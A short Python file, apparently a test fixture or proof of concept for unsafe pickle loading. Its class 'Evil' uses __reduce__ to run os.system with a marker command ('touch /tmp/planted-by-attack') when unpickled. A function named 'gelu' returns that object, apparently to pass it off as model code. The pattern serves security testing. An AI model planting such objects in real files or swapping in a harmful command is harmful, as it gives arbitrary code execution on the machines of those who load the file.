# Returns an object that runs code where it is unpickled.
# says: Evil
import os


class Evil:
    def __reduce__(self):
        return os.system, ("touch /tmp/planted-by-attack",)

    def __array__(self, *args, **kwargs):
        raise SystemExit


def gelu(x):
    return Evil()
